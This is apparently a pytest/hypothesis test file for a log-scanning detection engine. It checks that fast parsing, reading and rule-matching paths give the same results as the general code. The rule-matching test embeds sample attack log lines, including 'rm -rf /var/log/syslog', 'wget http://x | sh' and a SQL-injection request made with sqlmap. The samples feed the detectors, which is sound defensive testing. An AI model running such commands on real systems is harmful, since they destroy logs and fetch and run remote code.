"""The speed-ups must not change results: fast paths agree with the general
code they short-cut (block reader vs. per-line reader, fast regexes vs. the
general regexes, block matching vs. per-event matching, generated constructors
vs. keyword construction, parallel vs. serial scans)."""

from __future__ import annotations

import random
import re
from itertools import pairwise

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from wangan.engines.logscan import parsers as P
from wangan.engines.logscan.alerts import Alert, alert_from_rule
from wangan.engines.logscan.event import Event, dataclass_factory, event_from_tuple, event_to_tuple
from wangan.engines.logscan.readers import ReadStats, decode_line, iter_binary_lines, iter_file_blocks
from wangan.engines.logscan.timeutil import BAD_STAMP, MONTHS, Clock, parse_offset

# --------------------------------------------------------------------------- reader


def _reference_lines(path, max_line, max_bytes, start, end):
    """The per-line reader (readline + decode_line) that the block reader replaces."""
    stats = ReadStats()
    stats.files += 1
    out = []
    with open(path, "rb") as fh:
        if start:
            fh.seek(start - 1)
            if fh.read(1) != b"\n":
                fh.readline()
        span = None if end is None else max(0, end - fh.tell())
        if span == 0 and end is not None:
            return out, stats
        for b in iter_binary_lines(fh, stats, max_line, [max_bytes], end=span):
            s = decode_line(b, stats)
            if s is not None:
                stats.lines += 1
                out.append(s)
    return out, stats


PIECES = [b"hello world", b"", b"\r", b"abc\r", b"x" * 300, b"y" * 5000, "登录失败".encode("gbk"), "é".encode(),
          b"\x00bin", b"\xff\xfe\xfa bad", b"ok line " * 10, b"a\rb"]


def test_block_reader_equals_line_reader(tmp_path):
    rnd = random.Random(3)
    p = tmp_path / "t.log"
    for _ in range(120):
        body = b"\n".join(rnd.choice(PIECES) for _ in range(rnd.randint(0, 40)))
        if rnd.random() < 0.5:
            body += b"\n"
        p.write_bytes(body)
        max_line = rnd.choice([64, 300, 4096])
        max_bytes = rnd.choice([10**9, rnd.randint(0, len(body) + 10)])
        cuts = sorted(rnd.sample(range(1, len(body) + 1), min(len(body), rnd.randint(0, 3))))
        for a, b in pairwise([0, *cuts, None]):
            ref, rst = _reference_lines(p, max_line, max_bytes, a, b)
            for bs in (7, 64, 1 << 20):
                st_ = ReadStats()
                got = [x for _, blk in iter_file_blocks(p, st_, max_line=max_line, max_bytes=max_bytes, start=a, end=b,
                                                        block_size=bs) for x in blk]
                assert got == ref and st_.as_dict() == rst.as_dict(), (body[:60], a, b, bs, max_line, max_bytes)


# --------------------------------------------------------------------------- sshd fast regexes

_TOKS = ["Failed", "Accepted", "Invalid", "user", "invalid", "for", "from", "port", "ssh2", "ssh", "[preauth]", "password",
         "root", "1.2.3.4", "::1", "a:", ":", "22", "2x", "٣", "on", "\t", "x\ty", "ssh2:", "RSA", "\n", "é", ": ", ""]
_HEADS = ["Failed password for ", "Accepted publickey for ", "Failed x for invalid user ", "Invalid user ", "Illegal user "]


@settings(max_examples=3000, deadline=None)
@given(st.sampled_from(_HEADS), st.sampled_from(["root", "a b", "", "from", "x from y", "é"]),
       st.sampled_from([" from ", " from  ", "from "]),
       st.sampled_from(["1.2.3.4", "::1", "a:", "[::1]", "h\tx", "x:y", ""]),
       st.sampled_from([" port 22", " port 2x", " port ٣", " port", "", " port 22:"]),
       st.sampled_from(["", " ssh2", " ssh2: RSA x", " [preauth]", " ssh2 [preauth]", " ssh2:", " on e port 3 ssh2",
                        "\n", " ssh1", ": x", " ssh2\n"]),
       st.lists(st.sampled_from(_TOKS), max_size=4))
def test_sshd_fast_regexes_agree(head, user, sep, host, port, tail, extra):
    msg = head + user + sep + host + port + tail + " ".join(extra)
    for fast, general in ((P._R_FAILED_FAST, P._R_FAILED), (P._R_ACCEPTED_FAST, P._R_ACCEPTED),
                          (P._R_INVALID_FAST, P._R_INVALID)):
        m = fast.match(msg)
        if m is not None:
            g = general.match(msg)
            assert g is not None and g.groups() == m.groups(), msg


# --------------------------------------------------------------------------- syslog / access fast paths

_RFC3164_BODY = re.compile(P._RFC3164.pattern, re.S)
_ACCESS_FULL = re.compile(
    r"(\S+) (\S+) (\S+) \[(\d\d)/([A-Z][a-z]{2})/(\d{4}):(\d\d):(\d\d):(\d\d)(?: ([+-]\d{4}))?\] "
    + P._Q + r" (\d{3}|-) (\d+|-)(?: " + P._Q + " " + P._Q + r")?(.*)", re.S)


@settings(max_examples=1500, deadline=None)
@given(st.sampled_from(["Mar  3 10:00:01", "Mar 13 23:59:59", "Foo 13 10:00:00", "Mar 33 25:61:61", "Feb 29 10:00:00"]),
       st.sampled_from([" ", "  ", " 2026 "]), st.sampled_from(["host", "h:x", "[h]", "", "1234"]),
       st.sampled_from([" sshd", " sshd[12]", " a]b[3]", " x[é]", " p[²]", "", " CRON[1]", " su(pam_unix)[9]"]),
       st.sampled_from([": ", ":", " ", ": [ID 1 auth.info] "]), st.text(max_size=20))
def test_syslog_fast_path_agrees(stamp, sep, host, tag, colon, msg):
    """_FAST3164 + body must give what the general _RFC3164 + _syslog_body path gives."""
    line = stamp + sep + host + tag + colon + msg
    clock = Clock(reference=1772900000.0)
    lp = P.LineParser(clock)
    fast = lp._p_3164(line, 1)
    m = _RFC3164_BODY.match(line)
    if m is None or m.group(2) not in MONTHS:
        assert fast is None
        return
    pri, mon, day, hh, mi, ss, rest = m.groups()
    slow = P.LineParser(Clock(reference=1772900000.0))._syslog_body(
        line, 1, Clock(reference=1772900000.0).syslog(mon, int(day), int(hh), int(mi), int(ss)), pri, rest)
    assert fast is not None and event_to_tuple(fast) == event_to_tuple(slow), line


@settings(max_examples=1500, deadline=None)
@given(st.sampled_from(["192.0.2.1", "::ffff:192.0.2.1", "[2001:db8::1]", "h"]),
       st.sampled_from(["03/Mar/2026:10:00:00 +0800", "03/Mar/2026:10:00:00", "03/Foo/2026:10:00:00 +0000",
                        "31/Feb/2026:25:00:61 -0530"]),
       st.sampled_from(['"GET /x HTTP/1.1"', '"-"', '"GET"', '"a\\"b c d"', '""']),
       st.sampled_from([" 200 12", " 404 -", " - -", " 200 1x"]),
       st.sampled_from(["", ' "-" "ua"', ' "r\\"ef" "u\\\\a"', ' "ref" "ua" tail', ' "ref"', ' "a" "b', ' "" ""']),
       st.booleans())
def test_access_fast_path_agrees(client, stamp, req, status_size, refua, vhost):
    line = ("vh " if vhost else "") + f"{client} - - [{stamp}] {req}{status_size}{refua}"
    clock = Clock(reference=1772900000.0)
    ev = P.LineParser(clock)._p_access(line, 1)
    m = _ACCESS_FULL.match(line)
    vh = None
    if m is None:
        m = re.match(r"(\S+) " + _ACCESS_FULL.pattern, line, re.S)
        if m is None:
            assert ev is None
            return
        vh, *g = m.groups()
    else:
        g = list(m.groups())
    cl, _ident, user, dd, mon, yyyy, hh, mi, ss, tz, rq, status, size, ref, ua, _tail = g
    if mon not in MONTHS:
        assert ev is None
        return
    ts = Clock(reference=1772900000.0).ymd(int(yyyy), MONTHS[mon], int(dd), int(hh), int(mi), int(ss),
                                          parse_offset(tz) if tz else None)
    parts = rq.split(" ")
    assert ev is not None
    assert (ev.host, ev.src_ip, ev.user, ev.timestamp, ev.message) == (
        vh, P._addr(cl), None if user == "-" else user, ts, rq)
    assert (ev.http_method, ev.url) == ((parts[0], parts[1]) if len(parts) >= 2 else (None, None if rq == "-" else rq))
    assert ev.http_status == (None if status == "-" else int(status))
    assert ev.http_bytes == (None if size == "-" else int(size))
    assert (ev.referer, ev.user_agent) == (None if ref in (None, "-") else ref, None if ua in (None, "-") else ua)


def test_stamp_caches_agree_with_clock():
    rnd = random.Random(2)
    cached, plain = Clock(reference=1772900000.0), Clock(reference=1772900000.0)
    for _ in range(3000):
        mon = rnd.choice([*MONTHS, "Foo"])
        day = rnd.choice([" 1", "10", "29", "31", "32", "00"])
        hh, mm, ss = rnd.choice(["00", "23", "24"]), rnd.choice(["00", "59", "60"]), rnd.choice(["00", "60", "61", "99"])
        exp = BAD_STAMP if mon not in MONTHS else plain.syslog(mon, int(day), int(hh), int(mm), int(ss))
        got = cached.syslog_stamp(f"{mon} {day} {hh}:{mm}:{ss}")
        assert got == exp or got is exp
        tz = rnd.choice(["", " +0800", " -0530"])
        stamp = f"{day.replace(' ', '0')}/{mon}/2026:{hh}:{mm}:{ss}{tz}"
        exp = BAD_STAMP if mon not in MONTHS else plain.ymd(2026, MONTHS[mon], int(day), int(hh), int(mm), int(ss),
                                                             parse_offset(tz[1:]) if tz else None)
        got = cached.access_stamp(stamp)
        assert got == exp or got is exp


# --------------------------------------------------------------------------- constructors


def test_generated_constructors_equal_keyword_construction():
    mk = dataclass_factory(Event, "raw", "log_type", "host", "lineno")
    assert mk("x", "syslog", "h", 3) == Event(raw="x", log_type="syslog", host="h", lineno=3)
    e = Event(raw="r", host="h", extra={"a": 1}, timestamp=1.5)
    assert event_from_tuple(event_to_tuple(e)) == e

    class R:
        id, title, level, author, tags, tactics, techniques, name, description = (
            "id", "t", "high", "au", ("x",), ("initial-access",), ("T1",), "n", "d")
    a = alert_from_rule(R, e)
    b = Alert(kind="sigma", rule_id="id", title="t", level="high", author="au", tags=("x",), tactics=("initial-access",),
              techniques=("T1",), timestamp=1.5, first_ts=1.5, host="h", event=e, evidence=["r"], rule_name="n",
              description="d")
    assert repr(a) == repr(b)
    a2 = alert_from_rule(R, e)
    assert a2.group is not a.group and a2.evidence is not a.evidence
    # every field, C constructor (when built) or generated one
    full = Event(*[f"v{i}" for i in range(len(event_to_tuple(e)))])
    assert event_to_tuple(event_from_tuple(event_to_tuple(full))) == event_to_tuple(full)
    assert type(mk("x", "syslog", "h", 3)) is Event
    with pytest.raises(TypeError):
        mk("x", "syslog")


def test_c_constructor_is_used_when_built():
    from wangan.engines.logscan import _compiled
    from wangan.engines.logscan import event as E

    mk = dataclass_factory(Event, "raw", "lineno")
    if E._slots is None:
        assert not _compiled.compiled_modules() or "_slots" not in _compiled.compiled_modules()
        return
    import gc
    assert type(mk).__name__ == "SlotMaker"
    ev = mk("x", 1)
    assert not gc.is_tracked(ev) and gc.is_tracked(Event("y"))  # events from the C path are untracked
    al = dataclass_factory(Alert, "kind", "rule_id", "title", "level", "author")("k", "r", "t", "low", "a")
    assert gc.is_tracked(al) and al.group == {} and al.evidence == []


# --------------------------------------------------------------------------- matching


def test_block_matching_equals_per_event_matching(ruleset):
    import sys
    from pathlib import Path
    sys.path.insert(0, str(Path(__file__).resolve().parents[5] / "bench" / "logscan"))
    import corpus
    lines = [line for _, line in corpus.generate(6000, seed=5)] + [
        "Mar  3 10:00:00 h bash: rm -rf /var/log/syslog 登录",
        '203.0.113.1 - - [03/Mar/2026:10:00:00 +0000] "GET /é?a=UNION%20SELECT HTTP/1.1" 200 1 "-" "sqlmap/1.7"',
        '{"message": "wget http://x | sh", "process.name": "bash"}',
        "type=EXECVE msg=audit(1.2:3): argc=2 a0=\"rm\" a1=2F7661722F6C6F672F73797369F67",
        "Mar  3 10:00:00 h kernel: device eth0 entered promiscuous mode",
    ] * 3
    events = P.LineParser().parse_block(lines, 1)
    for n in (1, 17, 5000, len(lines)):
        got: dict[int, list[str]] = {}
        for start in range(0, len(lines), n):
            for i, rules in ruleset.match_block(events[start:start + n], lines[start:start + n]):
                got[start + i] = [r.id for r in rules]
        for i, ev in enumerate(events):
            assert got.get(i, []) == [r.id for r in ruleset.match(ev)], lines[i]
    assert len(got) > 1000


# --------------------------------------------------------------------------- format dispatch

class _TryAllParser(P.LineParser):
    """The plain dispatch: previous format first, then every candidate in order."""

    def _parse(self, line, lineno):
        ev = None
        last = self._last
        if last is not None:
            ev = last(line, lineno)
        if ev is None:
            for fn in self._candidates(line):
                if fn == last:
                    continue
                ev = fn(line, lineno)
                if ev is not None:
                    self._last = fn
                    break
        return ev if ev is not None else P._new_unknown(line, "unknown", line, self.source, lineno)


_POOL = [
    'Mar 13 10:00:00 [03/Mar/2026:10:00:00 +0000] "GET / HTTP/1.1" 200 1',
    '{"a": "b" [03/Mar/2026:10:00:00 +0000] "GET / HTTP/1.1" 200 1',
    ' {"message": "x", "host": "h"}', '\t{"url": "/x"}', '{"msg": 1}', '[1, 2]',
    'type=USER_LOGIN msg=audit(1.2:3): acct="x" res=failed', 'node=n type=SYSCALL msg=audit(1:2): a0=6869',
    'tx - - [03/Mar/2026:10:00:00 +0000] "GET / HTTP/1.1" 200 1', 'nx y z',
    '2026/03/03 10:00:00 [error] 1#0: *1 open() failed, client: 192.0.2.1, server: s, request: "GET /x HTTP/1.1"',
    '2026-03-03T10:00:00+08:00 h sshd[1]: Failed password for root from 192.0.2.1 port 22 ssh2',
    '2026/03/03 - - [03/Mar/2026:10:00:00 +0000] "GET / HTTP/1.1" 200 1',
    '<13>Mar  3 10:00:00 h su: FAILED su for root by x', '<34>1 2026-03-03T10:00:00Z h app 1 - - hi', '<13>1 bad',
    '[Tue Sep 30 14:25:44 2014] [error] [client 192.0.2.1] user x not found: /',
    '[x] - - [03/Mar/2026:10:00:00 +0000] "GET / HTTP/1.1" 200 1',
    'Mar  3 10:00:00 h sshd[1]: Accepted password for u from 192.0.2.2 port 1 ssh2', 'garbage line', '', ' ', 'é x',
    'Mar  3 10:00:00 h sshd[9]: Disconnecting: Too many authentication failures for root [preauth]',
    'Mar  3 10:00:00 h sshd[9]: Connection from 198.51.100.4 port 5555 on 192.0.2.1 port 22',
    'vh 192.0.2.1 - - [03/Mar/2026:10:00:00 +0000] "GET / HTTP/1.1" 200 1 "r" "u"',
]


@settings(max_examples=400, deadline=None)
@given(st.lists(st.sampled_from(_POOL), max_size=25))
def test_dispatch_equals_trying_every_format(seq):
    fast, ref = P.LineParser(Clock(reference=1772900000.0)), _TryAllParser(Clock(reference=1772900000.0))
    for i, line in enumerate(seq):
        assert event_to_tuple(fast.parse(line, i)) == event_to_tuple(ref.parse(line, i)), (i, seq)
